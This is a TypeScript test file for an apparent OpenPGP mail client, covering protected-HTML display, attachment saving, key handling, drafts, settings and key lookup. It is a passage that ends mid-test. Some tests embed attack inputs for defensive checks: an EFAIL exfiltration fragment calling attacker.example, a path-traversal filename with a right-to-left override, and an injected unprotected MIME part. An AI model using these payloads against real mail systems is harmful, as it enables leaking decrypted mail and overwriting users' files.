// The app's procedures beyond the mail list, through the one dispatcher with
// the real keyring worker and a real store (messages put into the store as
// a sync would, so no server is needed here; test/main/services/app-mail.test.ts
// covers what goes over the network): the reader's HTML from the protected
// part only, attachments saved through the save dialog, keys imported from
// a message, recipient key states, drafts, server guesses, settings, the
// key lifecycle, lookup, backup, and unlocking a key for reading.
import { test, before, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { DatabaseSync } from 'node:sqlite';
import type { InspectReport } from '../../../app/inspect-report.ts';
import type { KeySummary } from '../../../app/keys.ts';
import type { MessageView } from '../../../app/mail.ts';
import { DEFAULT_SETTINGS } from '../../../app/mail.ts';
import { startKeyringWorker, type RunningKeyring } from '../../../main/keyring-host/worker-keyring.ts';
import { createDispatcher, checkEvent, type Dispatch } from '../../../main/ipc/dispatcher.ts';
import type { SaveDialogs } from '../../../main/ipc/handlers.ts';
import { MailService } from '../../../main/services/mail-service.ts';
import { SettingsStore } from '../../../main/services/settings-store.ts';
import { MemorySecretStore } from '../../../main/accounts/secret-store.ts';
import { composeMessage } from '../../../main/pgp-mime/write/compose.ts';
import type { Draft } from '../../../main/pgp-mime/write/draft.ts';
import { openStore } from '../../../main/store/database.ts';
import { getDraft } from '../../../main/store/drafts.ts';
import { upsertFolder, checkUidValidity } from '../../../main/store/folders.ts';
import { upsertMessages } from '../../../main/store/messages.ts';
import { parseMime, headerValue } from '../../../main/pgp-mime/read/mime-parse.ts';
import { message, multipart, pgpMimeEncrypted, textPart } from '../../support/mail.ts';
import { peer } from '../../support/peers/peers.ts';

const ALICE = 'alice@app.example';
const BOB = 'bob@app.example';
const FOOTER = 'UNPROTECTED-FOOTER';

let home: string;
let bobHome: string;
let saveDir: string;
let keyring: RunningKeyring;
let bob: RunningKeyring;
let db: DatabaseSync;
let mail: MailService;
let dispatch: Dispatch;
let aliceKey: KeySummary;
let bobKey: KeySummary;
let folderId: number;
let accountId: string;
let nextUid = 1;
const events: { event: string; payload: unknown }[] = [];
const warnings: string[] = [];

/** Saves into a folder, as the test host does; refuses a name that is not one path segment. */
const dialogs: SaveDialogs & { cancel: boolean; saved: { name: string; path: string }[] } = {
  cancel: false,
  saved: [],
  async saveFile(name: string, bytes: Uint8Array): Promise<boolean> {
    if (dialogs.cancel) return false;
    assert.ok(!/[/\\\0]/.test(name) && name !== '..' && !name.startsWith('.'), `a safe file name, got ${JSON.stringify(name)}`);
    const path = join(saveDir, name);
    writeFileSync(path, bytes, { flag: 'wx' });
    dialogs.saved.push({ name, path });
    return true;
  },
};

/** The WKD of lookup.example, served from memory: one key at one address, nothing on the keyserver. */
const directory = new Map<string, Uint8Array>();
const fetcher = async (url: string): Promise<Response> => {
  // A domain whose servers cannot be reached, as fetch says so when offline.
  if (url.includes('offline.example') || url.includes('keys.openpgp.org/vks/v1/by-email/fred'))
    throw new TypeError('fetch failed', { cause: Object.assign(new Error('connect ECONNREFUSED'), { code: 'ECONNREFUSED' }) });
  for (const [needle, body] of directory) if (url.includes(needle)) return new Response(new Uint8Array(body), { status: 200 });
  return new Response(null, { status: 404 });
};

function ok<T = unknown>(result: Awaited<ReturnType<Dispatch>>, what = ''): T {
  assert.equal(result.ok, true, `${what} ${JSON.stringify(result).slice(0, 500)}`);
  return (result as { value: T }).value;
}

function failure(result: Awaited<ReturnType<Dispatch>>, code: string): string {
  assert.equal(result.ok, false, `expected ${code}, got ${JSON.stringify(result).slice(0, 300)}`);
  if (result.ok) throw new Error('unreachable');
  assert.equal(result.error.code, code, result.error.message);
  return result.error.message;
}

/** Puts a message into the inbox as a sync would (with its body); returns its UID. */
function store(raw: Uint8Array, subject = 'test'): string {
  const uid = nextUid++;
  upsertMessages(db, folderId, [{ uid, subject, flags: [], security: 'none', raw }]);
  return String(uid);
}

async function read(uid: string): Promise<MessageView> {
  return ok<MessageView>(await dispatch('mail.read', { folderId, uid }), 'mail.read');
}

function draftOf(partial: Partial<Draft>): Draft {
  return {
    from: { name: 'Bob', address: BOB },
    to: [{ name: 'Alice', address: ALICE }],
    cc: [],
    subject: 'hello',
    text: 'plain text\n',
    attachments: [],
    ...partial,
  };
}

/** What Bob's client sends. */
function fromBob(draft: Partial<Draft>, opts: { encrypt: boolean; sign: boolean; attachKey?: boolean }, keys = bob): Promise<Buffer> {
  return composeMessage(keys.client, draftOf(draft), {
    encrypt: opts.encrypt,
    sign: opts.sign,
    attachKey: opts.attachKey ?? false,
    keyPasswords: [],
  });
}

async function exchange(from: RunningKeyring, fingerprint: string, to: RunningKeyring): Promise<void> {
  const { armored } = await from.client.call('keys.export', { query: fingerprint });
  await to.client.call('keys.import', { data: Buffer.from(armored), source: 'file' });
}

/** No HTML from outside the decrypted or signed entity under a report that says the message is protected. */
function assertNothingUnprotectedUnderProtection(view: MessageView): void {
  const r = view.report;
  if (r.encryption.status === 'decrypted' || r.signature.status === 'valid') {
    assert.ok(!(view.html ?? '').includes(FOOTER), `unprotected HTML under a protected report: ${view.html}`);
    assert.ok(!r.text.includes(FOOTER));
  }
}

before(async () => {
  home = mkdtempSync(join(tmpdir(), 'sealpost-app-procs-'));
  bobHome = mkdtempSync(join(tmpdir(), 'sealpost-app-procs-bob-'));
  saveDir = join(home, 'saved');
  mkdirSync(saveDir);
  keyring = startKeyringWorker(home);
  bob = startKeyringWorker(bobHome);
  [aliceKey, bobKey] = await Promise.all([
    keyring.client.call('keys.generate', { name: 'Alice', email: ALICE, algo: 'curve25519', expiresInSeconds: null, passphrase: null }),
    bob.client.call('keys.generate', { name: 'Bob', email: BOB, algo: 'curve25519', expiresInSeconds: null, passphrase: null }),
  ]);
  await exchange(keyring, aliceKey.fingerprint, bob);
  await exchange(bob, bobKey.fingerprint, keyring);
  db = openStore(home);
  const emit = (event: string, payload: unknown) => {
    checkEvent(event as never, payload as never);
    events.push({ event, payload });
  };
  mail = new MailService({ db, secrets: new MemorySecretStore(), keyring: keyring.client, checkServers: false, emit: emit });
  const settings = new SettingsStore({ profile: home, onWarning: (w) => warnings.push(w) });
  dispatch = createDispatcher({
    keyring: keyring.client,
    mail,
    emit: emit,
    dialogs,
    settings,
    lookup: { fetcher, timeoutMs: 5_000 },
  });
  // Servers nobody listens on: the background upload of drafts fails here and is retried later, which these tests do not need.
  const account = ok<{ id: string }>(
    await dispatch('accounts.add', { email: ALICE, imap: 'imaps://127.0.0.1:1', smtp: 'smtps://127.0.0.1:1', user: ALICE, password: 'pw' }),
  );
  accountId = account.id;
  const folder = upsertFolder(db, accountId, { path: 'INBOX', role: 'inbox' });
  checkUidValidity(db, folder.id, '7');
  folderId = folder.id;
});

after(async () => {
  await mail?.stop();
  db?.close();
  await Promise.all([keyring?.close(), bob?.close()]);
  for (const dir of [home, bobHome]) if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('mail.read: the HTML of the content the report speaks of', () => {
  const HTML = '<p>PROTECTED-HTML <b>for Alice</b></p>';

  test('signed and encrypted by composeMessage: html from the decrypted part; an extra part beside the encrypted data never shows', async () => {
    const raw = await fromBob({ subject: 'html secret', text: 'PROTECTED-TEXT\n', html: HTML }, { encrypt: true, sign: true });
    const view = await read(store(raw));
    assert.equal(view.report.encryption.status, 'decrypted');
    assert.equal(view.report.signature.status, 'valid');
    assert.equal(view.report.signature.signer?.fingerprint, bobKey.fingerprint);
    assert.equal(view.report.subject, 'html secret');
    assert.ok(view.html?.includes('PROTECTED-HTML'), String(view.html));
    assert.match(view.report.text, /PROTECTED-TEXT/);

    // An attacker on the path adds a third part to the multipart/encrypted (RFC 3156 has two).
    const text = raw.toString('latin1');
    const b = /boundary="([^"]+)"/.exec(text)![1]!;
    const tampered = Buffer.from(
      text.replace(`\r\n--${b}--`, `\r\n--${b}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>${FOOTER}</p>\r\n--${b}--`),
      'latin1',
    );
    const got = await read(store(tampered));
    assert.equal(got.report.encryption.status, 'decrypted');
    assert.ok(got.html?.includes('PROTECTED-HTML'));
    assertNothingUnprotectedUnderProtection(got);
  });

  test('signed only: HTML after the signed entity (the epilogue) is not shown; a mailing-list footer makes the report partial', async () => {
    const raw = await fromBob({ subject: 'signed html', html: HTML }, { encrypt: false, sign: true });
    const withEpilogue = Buffer.concat([raw, Buffer.from(`<html><body><p>${FOOTER}</p></body></html>\r\n`)]);
    const view = await read(store(withEpilogue));
    assert.equal(view.report.signature.status, 'valid');
    assert.ok(view.html?.includes('PROTECTED-HTML'));
    assertNothingUnprotectedUnderProtection(view);

    // Mailman: multipart/mixed [Bob's multipart/signed, text/html footer].
    const { root } = parseMime(raw);
    const signedEntity = Buffer.concat([Buffer.from(`Content-Type: ${headerValue(root, 'content-type')}\r\n\r\n`), root.body]);
    const listed = message(
      { From: `Bob <${BOB}>`, To: ALICE, Subject: '[list] signed html' },
      multipart('mixed', [signedEntity, textPart(`<p>${FOOTER}</p>`, 'text/html; charset=utf-8')]),
    );
    const partial = await read(store(listed));
    assert.equal(partial.report.signature.status, 'none');
    assert.ok(partial.report.warnings.some((w) => w.code === 'partially-signed'));
    assertNothingUnprotectedUnderProtection(partial);
  });

  test('a plain message: its HTML alternative; a text-only message: null', async () => {
    const alt = message(
      { From: `Carol <carol@app.example>`, To: ALICE, Subject: 'news' },
      multipart('alternative', [textPart('plain version'), textPart('<p>html version</p>', 'text/html; charset=utf-8')]),
    );
    const view = await read(store(alt));
    assert.equal(view.html, '<p>html version</p>');
    assert.equal((await read(store(message({ From: 'carol@app.example', Subject: 'plain' }, 'just text\n')))).html, null);
  });

  test('several HTML parts: mail.read says where each starts, so the reader sanitizes them apart (EFAIL direct exfiltration)', async () => {
    const parts = ['<img src="http://attacker.example/?', '<p>middle</p>', '">'];
    const efail = message(
      { From: `Carol <carol@app.example>`, To: ALICE, Subject: 'efail shape' },
      multipart(
        'mixed',
        parts.map((p) => textPart(p, 'text/html; charset=utf-8')),
      ),
    );
    const view = await read(store(efail));
    assert.equal(view.html, parts.join('\n'));
    assert.deepEqual(
      view.htmlStarts!.map((start, i) => view.html!.slice(start, start + parts[i]!.length)),
      parts,
    );
  });

  test(
    'made by GnuPG: a signed and encrypted multipart/alternative, html from the decrypted part',
    { skip: peer('gpg').available() ? false : 'gpg is not installed' },
    async () => {
      const gpg = peer('gpg');
      const dave = await gpg.generateKey('Dave <dave@app.example>');
      await keyring.client.call('keys.import', { data: Buffer.from(dave.cert), source: 'file' });
      const { armored: aliceCert } = await keyring.client.call('keys.export', { query: aliceKey.fingerprint });
      const inner = multipart('alternative', [textPart('gpg plain'), textPart('<p>GPG-HTML</p>', 'text/html; charset=utf-8')]);
      const encrypted = await gpg.encrypt(inner, [aliceCert], { signer: dave });
      const view = await read(
        store(message({ From: 'Dave <dave@app.example>', To: ALICE, Subject: 'from gpg' }, pgpMimeEncrypted(encrypted))),
      );
      assert.equal(view.report.encryption.status, 'decrypted');
      assert.equal(view.report.signature.status, 'valid');
      assert.equal(view.html, '<p>GPG-HTML</p>');
    },
  );
});

describe('mail.saveAttachment', () => {
  const payload = randomBytes(100_000);
  let uid: string;
  let report: InspectReport;

  before(async () => {
    const raw = await fromBob(
      {
        subject: 'files',
        attachments: [
          { filename: '../../.bashrc\u202Ehs.txt', contentType: 'application/octet-stream', content: payload },
          { filename: 'notes.txt', contentType: 'text/plain', content: Buffer.from('notes\n') },
        ],
      },
      { encrypt: true, sign: true },
    );
    assert.ok(!raw.includes(payload.subarray(0, 64).toString('base64')), 'the attachment travels encrypted');
    uid = store(raw);
    report = (await read(uid)).report;
  });

  test('the decrypted bytes go to the save dialog under a safe name; they match the report', async () => {
    assert.equal(report.attachments.length, 2);
    assert.ok(report.attachments.every((a) => a.protected));
    const result = ok<{ saved: boolean }>(await dispatch('mail.saveAttachment', { folderId, uid, index: 0 }));
    assert.deepEqual(result, { saved: true });
    const saved = dialogs.saved.at(-1)!;
    assert.ok(!saved.name.includes('/') && !saved.name.includes('\u202E'), saved.name);
    const bytes = readFileSync(saved.path);
    assert.ok(bytes.equals(payload));
    assert.equal(createHash('sha256').update(bytes).digest('hex'), report.attachments[0]!.sha256);

    ok(await dispatch('mail.saveAttachment', { folderId, uid, index: 1 }));
    assert.equal(dialogs.saved.at(-1)!.name, 'notes.txt');
    assert.equal(readFileSync(dialogs.saved.at(-1)!.path, 'utf8'), 'notes\n');
  });

  test('mail.attachment hands the decrypted bytes to the renderer (for a forward)', async () => {
    const first = ok<{ filename: string; contentType: string; content: Uint8Array }>(
      await dispatch('mail.attachment', { folderId, uid, index: 0 }),
    );
    assert.ok(Buffer.from(first.content).equals(payload));
    assert.equal(first.filename, report.attachments[0]!.filename);
    const second = ok<{ filename: string; content: Uint8Array }>(await dispatch('mail.attachment', { folderId, uid, index: 1 }));
    assert.equal(Buffer.from(second.content).toString('utf8'), 'notes\n');
    failure(await dispatch('mail.attachment', { folderId, uid, index: 2 }), 'bad-input');
  });

  test('a cancelled dialog, an index beyond the attachments, no dialog at all', async () => {
    dialogs.cancel = true;
    try {
      assert.deepEqual(ok(await dispatch('mail.saveAttachment', { folderId, uid, index: 0 })), { saved: false });
    } finally {
      dialogs.cancel = false;
    }
    failure(await dispatch('mail.saveAttachment', { folderId, uid, index: 2 }), 'bad-input');
    const noDialogs = createDispatcher({ keyring: keyring.client, mail });
    failure(await noDialogs('mail.saveAttachment', { folderId, uid, index: 0 }), 'dialog-unavailable');
  });
});

test('mail.importKeys: only keys the report lists, with their source; keyring.changed', async () => {
  const carolHome = mkdtempSync(join(tmpdir(), 'sealpost-app-procs-carol-'));
  const carol = startKeyringWorker(carolHome);
  try {
    const key = await carol.client.call('keys.generate', {
      name: 'Carol',
      email: 'carol@keys.example',
      algo: 'curve25519',
      expiresInSeconds: null,
      passphrase: null,
    });
    const raw = await composeMessage(
      carol.client,
      {
        from: { name: 'Carol', address: 'carol@keys.example' },
        to: [{ name: '', address: ALICE }],
        cc: [],
        subject: 'my key',
        text: 'here it is\n',
        attachments: [],
      },
      { encrypt: false, sign: true, attachKey: true, keyPasswords: [] },
    );
    const uid = store(raw);
    const before = await read(uid);
    assert.equal(before.report.signature.status, 'unknown-key');
    assert.deepEqual(
      new Set(before.report.keys.map((k) => `${k.fingerprint} ${k.source}`)),
      new Set([`${key.fingerprint} attachment`, `${key.fingerprint} autocrypt`]),
    );

    // A fingerprint the message does not carry: refused, nothing imported.
    failure(await dispatch('mail.importKeys', { folderId, uid, fingerprints: [bobKey.fingerprint, key.fingerprint] }), 'bad-input');
    failure(await dispatch('keys.show', { query: key.fingerprint }), 'key-not-found');

    events.length = 0;
    const outcome = ok<{ changed: KeySummary[]; problems: unknown[] }>(
      await dispatch('mail.importKeys', { folderId, uid, fingerprints: [key.fingerprint] }),
    );
    assert.deepEqual(
      outcome.changed.map((k) => k.fingerprint),
      [key.fingerprint],
    );
    assert.equal(outcome.changed[0]!.hasSecret, false);
    assert.deepEqual(outcome.problems, []);
    assert.deepEqual(
      events.filter((e) => e.event === 'keyring.changed').map((e) => e.payload),
      [{ fingerprints: [key.fingerprint] }],
    );
    const shown = ok<KeySummary>(await dispatch('keys.show', { query: key.fingerprint }));
    assert.equal(shown.trust, 'unverified');
    assert.ok(shown.sources.includes('attachment'));
    assert.equal((await read(uid)).report.signature.status, 'valid');
  } finally {
    await carol.close();
    rmSync(carolHome, { recursive: true, force: true });
  }
});

test('compose.recipients: verified, unverified, missing, rejected, expired, revoked, in the order asked', async () => {
  const rita = await bob.client.call('keys.generate', {
    name: 'Rita',
    email: 'rita@app.example',
    algo: 'curve25519',
    expiresInSeconds: null,
    passphrase: null,
  });
  await exchange(bob, rita.fingerprint, keyring);
  ok(await dispatch('keys.trust', { fingerprint: rita.fingerprint, trust: 'rejected' }));
  const eve = ok<KeySummary>(
    await dispatch('keys.generate', { name: 'Eve', email: 'eve@app.example', expiresInSeconds: 1, passphrase: null }),
  );
  const ron = ok<KeySummary>(
    await dispatch('keys.generate', { name: 'Ron', email: 'ron@app.example', expiresInSeconds: null, passphrase: null }),
  );
  ok(await dispatch('keys.revoke', { fingerprint: ron.fingerprint }));
  while (Date.parse(eve.expires!) >= Date.now()) await new Promise((r) => setTimeout(r, 100));

  const states = ok<Array<{ address: string; state: string; fingerprint: string | null; userId: string | null }>>(
    await dispatch('compose.recipients', {
      addresses: [ALICE, 'BOB@app.example', 'nobody@app.example', 'rita@app.example', 'eve@app.example', 'ron@app.example'],
    }),
  );
  assert.deepEqual(
    states.map((s) => [s.address, s.state, s.fingerprint]),
    [
      [ALICE, 'verified', aliceKey.fingerprint],
      ['BOB@app.example', 'unverified', bobKey.fingerprint],
      ['nobody@app.example', 'missing', null],
      ['rita@app.example', 'rejected', rita.fingerprint],
      ['eve@app.example', 'expired', eve.fingerprint],
      ['ron@app.example', 'revoked', ron.fingerprint],
    ],
  );
  assert.equal(states[1]!.userId, `Bob <${BOB}>`);
  assert.deepEqual(ok(await dispatch('compose.recipients', { addresses: [] })), []);
  failure(await dispatch('compose.recipients', { addresses: ['not an address'] }), 'protocol-invalid');
});

test('drafts: an encrypted draft is stored encrypted and comes back whole; revisions; delete', async () => {
  const draft = {
    from: { name: 'Alice', address: ALICE },
    to: [{ name: 'Bob', address: BOB }],
    cc: [],
    bcc: [{ name: '', address: 'hidden@app.example' }],
    subject: 'DRAFT-SUBJECT',
    text: 'DRAFT-BODY line one\nline two\n',
    attachments: [{ filename: 'plan.bin', contentType: 'application/octet-stream', content: new Uint8Array([0, 1, 2, 255]) }],
  };
  const first = ok<{ id: number; encrypted: boolean; revision: number; unsaved: boolean; accountId: string }>(
    await dispatch('drafts.save', { accountId, draft, encrypt: true }),
  );
  assert.deepEqual([first.encrypted, first.revision, first.unsaved, first.accountId], [true, 1, true, accountId]);
  const stored = Buffer.from(getDraft(db, first.id)!.raw);
  assert.match(stored.toString('latin1'), /-----BEGIN PGP MESSAGE-----/);
  for (const secret of ['DRAFT-BODY', 'DRAFT-SUBJECT', 'hidden@app.example', BOB])
    assert.ok(!stored.includes(secret), `${secret} is not stored in the clear`);

  const loaded = ok<{ summary: { id: number; revision: number }; draft: typeof draft }>(await dispatch('drafts.load', { id: first.id }));
  assert.equal(loaded.summary.id, first.id);
  assert.deepEqual(loaded.draft.to, draft.to);
  assert.deepEqual(loaded.draft.bcc, draft.bcc);
  assert.equal(loaded.draft.subject, draft.subject);
  assert.equal(loaded.draft.text, draft.text);
  assert.deepEqual([...loaded.draft.attachments[0]!.content], [0, 1, 2, 255]);

  const second = ok<{ id: number; revision: number; encrypted: boolean }>(
    await dispatch('drafts.save', { accountId, id: first.id, draft: { ...draft, to: [], text: 'changed\n' }, encrypt: false }),
  );
  assert.deepEqual([second.id, second.revision, second.encrypted], [first.id, 2, false]);
  assert.match(Buffer.from(getDraft(db, first.id)!.raw).toString('utf8'), /changed/);
  const listed = ok<Array<{ id: number }>>(await dispatch('drafts.list', { accountId }));
  assert.deepEqual(
    listed.map((d) => d.id),
    [first.id],
  );

  assert.deepEqual(ok(await dispatch('drafts.delete', { id: first.id })), {});
  assert.deepEqual(ok(await dispatch('drafts.list', { accountId })), []);
  assert.deepEqual(ok(await dispatch('drafts.delete', { id: first.id })), {}, 'a draft already gone');
  failure(await dispatch('drafts.load', { id: first.id }), 'bad-input');
  failure(await dispatch('drafts.save', { accountId, id: 99_999, draft, encrypt: false }), 'bad-input');
});

test('accounts.guess: well-known providers, else imap./smtp. of the domain; no network', async () => {
  const guess = async (email: string) =>
    ok<{ imap: string; smtp: string; user: string; known: boolean }>(await dispatch('accounts.guess', { email }));
  assert.deepEqual(await guess('someone@gmail.com'), {
    imap: 'imaps://imap.gmail.com:993',
    smtp: 'smtps://smtp.gmail.com:465',
    user: 'someone@gmail.com',
    known: true,
  });
  assert.deepEqual(await guess('x@GoogleMail.com'), {
    imap: 'imaps://imap.gmail.com:993',
    smtp: 'smtps://smtp.gmail.com:465',
    user: 'x@GoogleMail.com',
    known: true,
  });
  assert.equal((await guess('x@hotmail.com')).imap, 'imaps://outlook.office365.com:993');
  assert.equal((await guess('x@me.com')).imap, 'imaps://imap.mail.me.com:993');
  assert.equal((await guess('x@gmx.de')).imap, 'imaps://imap.gmx.net:993');
  assert.equal((await guess('x@gmx.co.uk')).imap, 'imaps://imap.gmx.com:993');
  assert.equal((await guess('x@web.de')).smtp, 'smtp://smtp.web.de:587');
  assert.deepEqual(await guess('x@proton.me'), {
    imap: 'imap://127.0.0.1:1143',
    smtp: 'smtp://127.0.0.1:1025',
    user: 'x@proton.me',
    known: true,
  });
  assert.equal((await guess('x@posteo.de')).known, true);
  assert.equal((await guess('x@mailbox.org')).known, true);
  assert.equal((await guess('x@yahoo.com')).known, true);
  assert.equal((await guess('x@fastmail.com')).known, true);
  assert.deepEqual(await guess('me@example.org'), {
    imap: 'imaps://imap.example.org:993',
    smtp: 'smtp://smtp.example.org:587',
    user: 'me@example.org',
    known: false,
  });
  assert.equal((await guess('me@bücher.example')).imap, 'imaps://imap.xn--bcher-kva.example:993');
  failure(await dispatch('accounts.guess', { email: 'no address' }), 'protocol-invalid');
});

describe('settings', () => {
  test('defaults, then a change kept in <profile>/settings.json; bad input refused', async () => {
    assert.deepEqual(ok(await dispatch('settings.get', {})), DEFAULT_SETTINGS);
    const changed = ok(await dispatch('settings.set', { theme: 'dark', unlockMinutes: 5 }));
    assert.deepEqual(changed, { ...DEFAULT_SETTINGS, theme: 'dark', unlockMinutes: 5 });
    assert.deepEqual(JSON.parse(readFileSync(join(home, 'settings.json'), 'utf8')), changed);
    assert.deepEqual(ok(await dispatch('settings.get', {})), changed);
    assert.deepEqual(
      readdirSync(home).filter((f) => f.includes('settings') && f !== 'settings.json'),
      [],
      'no temporary file left',
    );
    failure(await dispatch('settings.set', { theme: 'neon' }), 'protocol-invalid');
    failure(await dispatch('settings.set', { unlockMinutes: 0 }), 'protocol-invalid');
    failure(await dispatch('settings.set', { smuggled: true }), 'protocol-invalid');
    // Two changes at once: neither is lost.
    await Promise.all([dispatch('settings.set', { sign: false }), dispatch('settings.set', { notifications: false })]);
    assert.deepEqual(ok(await dispatch('settings.get', {})), { ...changed, sign: false, notifications: false });
  });

  test('a damaged file: the defaults and a warning; it is left alone until a change, then kept aside', async () => {
    const profile = mkdtempSync(join(tmpdir(), 'sealpost-settings-'));
    try {
      const seen: string[] = [];
      const d = createDispatcher({
        keyring: keyring.client,
        settings: new SettingsStore({ profile, onWarning: (w) => seen.push(w), now: () => 1234 }),
      });
      for (const damaged of ['{"theme": "dark", "unlock', '{"unlockMinutes": 0}', '[1, 2]']) {
        writeFileSync(join(profile, 'settings.json'), damaged);
        seen.length = 0;
        assert.deepEqual(ok(await d('settings.get', {})), DEFAULT_SETTINGS);
        assert.equal(seen.length, 1);
        assert.ok(!seen[0]!.includes('unlock'), 'the warning names the file, not its content');
        assert.equal(readFileSync(join(profile, 'settings.json'), 'utf8'), damaged, 'not overwritten by reading');
      }
      // A missing field (a later version's) takes its default: not damage.
      writeFileSync(join(profile, 'settings.json'), '{"theme": "light"}');
      assert.deepEqual(ok(await d('settings.get', {})), { ...DEFAULT_SETTINGS, theme: 'light' });

      writeFileSync(join(profile, 'settings.json'), 'not json at all');
      seen.length = 0;
      assert.deepEqual(ok(await d('settings.set', { theme: 'dark' })), { ...DEFAULT_SETTINGS, theme: 'dark' });
      assert.equal(readFileSync(join(profile, 'settings.json.damaged-1234'), 'utf8'), 'not json at all');
      assert.ok(seen.some((w) => w.includes('settings.json.damaged-1234')));
      assert.deepEqual(ok(await d('settings.get', {})), { ...DEFAULT_SETTINGS, theme: 'dark' });
    } finally {
      rmSync(profile, { recursive: true, force: true });
    }
    const without = createDispatcher({ keyring: keyring.client });
    assert.deepEqual(ok(await without('settings.get', {})), DEFAULT_SETTINGS);
    failure(await without('settings.set', { theme: 'dark' }), 'internal');
  });
});

test('key lifecycle through the dispatcher: passwd, expire, backup, revoke, delete; each announced', async () => {
  events.length = 0;
  const key = ok<KeySummary>(
    await dispatch('keys.generate', { name: 'Life', email: 'life@app.example', expiresInSeconds: null, passphrase: 'old passphrase' }),
  );
  const fpr = key.fingerprint;
  failure(
    await dispatch('keys.passwd', { fingerprint: fpr, oldPassphrase: 'wrong', newPassphrase: 'new passphrase' }),
    'key-wrong-passphrase',
  );
  ok(await dispatch('keys.passwd', { fingerprint: fpr, oldPassphrase: 'old passphrase', newPassphrase: 'new passphrase' }));
  failure(
    await dispatch('keys.expire', { fingerprint: fpr, expiresInSeconds: 86_400, passphrase: 'old passphrase' }),
    'key-wrong-passphrase',
  );
  const expiring = ok<KeySummary>(
    await dispatch('keys.expire', { fingerprint: fpr, expiresInSeconds: 365 * 86_400, passphrase: 'new passphrase' }),
  );
  assert.ok(expiring.expires && Date.parse(expiring.expires) > Date.now() + 300 * 86_400);

  const backup = await dispatch('keys.backup', { fingerprint: fpr });
  assert.deepEqual(ok(backup), { saved: true });
  assert.ok(!JSON.stringify(backup).includes('PRIVATE'), 'nothing secret in the answer');
  const file = dialogs.saved.at(-1)!;
  assert.equal(file.name, `0x${fpr.slice(-16)}-secret-key.asc`);
  const armored = readFileSync(file.path, 'utf8');
  assert.match(armored, /-----BEGIN PGP PRIVATE KEY BLOCK-----/);
  // The backup restores, and it is protected by the current passphrase.
  const restoreHome = mkdtempSync(join(tmpdir(), 'sealpost-restore-'));
  const restore = startKeyringWorker(restoreHome);
  try {
    const { changed } = await restore.client.call('keys.import', { data: Buffer.from(armored), source: 'file' });
    assert.equal(changed[0]?.fingerprint, fpr);
    assert.equal(changed[0]?.hasSecret, true);
    await assert.rejects(
      restore.client.call('session.unlock', { fingerprint: fpr, passphrase: 'old passphrase' }),
      (e: { code?: string }) => e.code === 'key-wrong-passphrase',
    );
    await restore.client.call('session.unlock', { fingerprint: fpr, passphrase: 'new passphrase' });
  } finally {
    await restore.close();
    rmSync(restoreHome, { recursive: true, force: true });
  }
  // The revocation certificate made with the key, in a file of its own; applied, it revokes the key without its passphrase.
  const revocation = ok<{ saved: boolean; available: boolean }>(await dispatch('keys.saveRevocation', { fingerprint: fpr }));
  assert.deepEqual(revocation, { saved: true, available: true });
  const revFile = dialogs.saved.at(-1)!;
  assert.equal(revFile.name, `0x${fpr.slice(-16)}-revocation-certificate.asc`);
  const revArmored = readFileSync(revFile.path, 'utf8');
  assert.match(revArmored, /-----BEGIN PGP PUBLIC KEY BLOCK-----/);
  assert.ok(!revArmored.includes('PRIVATE'));
  const revHome = mkdtempSync(join(tmpdir(), 'sealpost-revoke-'));
  const revKeyring = startKeyringWorker(revHome);
  try {
    const { armored: cert } = await keyring.client.call('keys.export', { query: fpr });
    await revKeyring.client.call('keys.import', { data: Buffer.from(cert), source: 'file' });
    const { changed } = await revKeyring.client.call('keys.import', { data: Buffer.from(revArmored), source: 'file' });
    assert.equal(changed[0]?.revoked, true, 'the saved certificate revokes the key');
  } finally {
    await revKeyring.close();
    rmSync(revHome, { recursive: true, force: true });
  }
  assert.deepEqual(
    ok(await dispatch('keys.saveRevocation', { fingerprint: bobKey.fingerprint })),
    { saved: false, available: false },
    'an imported key has none here',
  );
  failure(await createDispatcher({ keyring: keyring.client })('keys.backup', { fingerprint: fpr }), 'dialog-unavailable');
  failure(await dispatch('keys.backup', { fingerprint: bobKey.fingerprint }), 'key-no-secret');

  const revoked = ok<KeySummary>(await dispatch('keys.revoke', { fingerprint: fpr, reason: 'retired', passphrase: 'new passphrase' }));
  assert.equal(revoked.revoked, true);
  failure(await dispatch('keys.delete', { fingerprint: fpr }), 'key-secret-exists');
  assert.deepEqual(ok(await dispatch('keys.delete', { fingerprint: fpr, secret: true })), {});
  failure(await dispatch('keys.show', { query: fpr }), 'key-not-found');

  const announced = events.filter((e) => e.event === 'keyring.changed').map((e) => (e.payload as { fingerprints: string[] }).fingerprints);
  assert.deepEqual(announced, [[fpr], [fpr], [fpr], [fpr], [fpr]], 'generate, passwd, expire, revoke, delete');
});

test('keys.lookup: what the Web Key Directory serves, imported only when asked', async () => {
  const dana = await bob.client.call('keys.generate', {
    name: 'Dana',
    email: 'dana@lookup.example',
    algo: 'curve25519',
    expiresInSeconds: null,
    passphrase: null,
  });
  const { armored } = await bob.client.call('keys.export', { query: dana.fingerprint });
  directory.set('openpgpkey.lookup.example/.well-known/openpgpkey/lookup.example/hu/', Buffer.from(armored));

  const found = ok<{ found: Array<{ source: string; keys: KeySummary[]; error: string | null }>; imported: KeySummary[] }>(
    await dispatch('keys.lookup', { email: 'dana@lookup.example' }),
  );
  const wkd = found.found.find((f) => f.source === 'wkd')!;
  assert.deepEqual(
    wkd.keys.map((k) => k.fingerprint),
    [dana.fingerprint],
  );
  assert.equal(wkd.error, null);
  assert.deepEqual(found.found.find((f) => f.source === 'vks')!.keys, []);
  assert.deepEqual(found.imported, []);
  failure(await dispatch('keys.show', { query: dana.fingerprint }), 'key-not-found');

  events.length = 0;
  const imported = ok<{ imported: KeySummary[] }>(await dispatch('keys.lookup', { email: 'dana@lookup.example', import: true }));
  assert.deepEqual(
    imported.imported.map((k) => k.fingerprint),
    [dana.fingerprint],
  );
  assert.deepEqual(
    events.filter((e) => e.event === 'keyring.changed').map((e) => e.payload),
    [{ fingerprints: [dana.fingerprint] }],
  );
  assert.ok(ok<KeySummary>(await dispatch('keys.show', { query: dana.fingerprint })).sources.includes('wkd'));
});

test('keys.lookup onAdd (the composer, as a recipient is added): network sources only, nothing imported when they disagree, offline said', async () => {
  const make = (name: string, email: string) =>
    bob.client.call('keys.generate', { name, email, algo: 'curve25519', expiresInSeconds: null, passphrase: null });
  const erinWkd = await make('Erin', 'erin@lookup.example');
